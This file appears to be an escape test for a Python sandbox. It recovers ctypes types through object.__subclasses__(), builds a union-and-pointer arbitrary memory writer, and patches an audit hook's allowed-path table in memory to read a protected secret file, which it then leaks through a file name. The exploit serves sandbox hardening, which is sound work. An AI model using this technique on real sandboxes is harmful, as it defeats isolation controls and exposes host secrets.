# expect: ok
# ruff: noqa: SIM105, SIM115
# expect-kernel: ok
# value: 1
# value-kernel: 2
# The bootstrap used ctypes for the kernel layers, so _ctypes stays loaded and its types stay reachable through
# object.__subclasses__() even after `import ctypes` is refused: define a union of an integer and a pointer (or take
# c_char_p, py_object, a POINTER type, a structure the bootstrap made, a metatype), write into the audit hook's
# frozen tables through raw memory, and read the host's secret with the hook none the wiser. With the hook, no
# route may give an instance that reaches memory by an address (1); without it native code is assumed and
# Landlock keeps the secret (2).


def leak(what):
    try:
        open("/leak/SANDBOX-ESCAPED " + str(what)[:150], "w")
    except Exception:
        pass
    return "SANDBOX-ESCAPED " + str(what)[:150]


def ctypes_types():
    found, pending, seen = {}, [object], set()
    while pending:
        for sub in type.__subclasses__(pending.pop()):
            if id(sub) not in seen:
                seen.add(id(sub))
                pending.append(sub)
                found.setdefault(sub.__name__, sub)
    return found


def writers(t):
    """Ways to a (union-like) object whose `ptr[0] = value` writes at `addr`."""
    def from_bases():
        class Address(t["_SimpleCData"]):
            _type_ = "q"

        class Word(t["_SimpleCData"]):
            _type_ = "P"

        class Pointer(t["_Pointer"]):
            _type_ = Word

        class Both(t["Union"]):
            _fields_ = [("addr", Address), ("ptr", Pointer)]
        return Both()

    def from_survivors():
        number = next(c for n, c in t.items() if n in ("c_long", "c_ssize_t", "c_int64", "c_longlong"))
        pointer = next(c for n, c in t.items() if n.startswith("LP_"))

        class Both(next(c for n, c in t.items() if n in ("_RulesetAttr", "_MountAttr", "_PathBeneathAttr"))):
            _fields_ = [("addr", number), ("ptr", pointer)]
        return Both()

    def from_metatype():
        meta = type(t["Union"]) if "Union" in t else None
        return meta("Both", (object,), {"_fields_": [("addr", t["c_long"]), ("ptr", t["c_char_p"])]})()

    return from_bases, from_survivors, from_metatype


def check(**p):
    t = ctypes_types()
    reached = 1
    for reader in ("c_char_p", "py_object", "c_wchar_p"):
        try:
            t[reader](id(b"probe"))
            reached = 2
        except Exception:
            pass
    for make in writers(t):
        try:
            both = make()
            both.addr = 0  # a real C data instance, not an inert look-alike
        except Exception:
            continue
        try:
            open(p["secret_file"])
        except PermissionError as exc:
            tb = exc.__traceback__
            while tb.tb_next:
                tb = tb.tb_next
            prefixes = tb.tb_frame.f_locals.get("read_prefixes", ())
            both.addr = id(prefixes) + 24
            both.ptr[0] = id("/")
        except Exception:
            pass
        try:
            with open(p["secret_file"]) as fh:
                return leak(fh.read())
        except Exception:
            return 2
    return reached
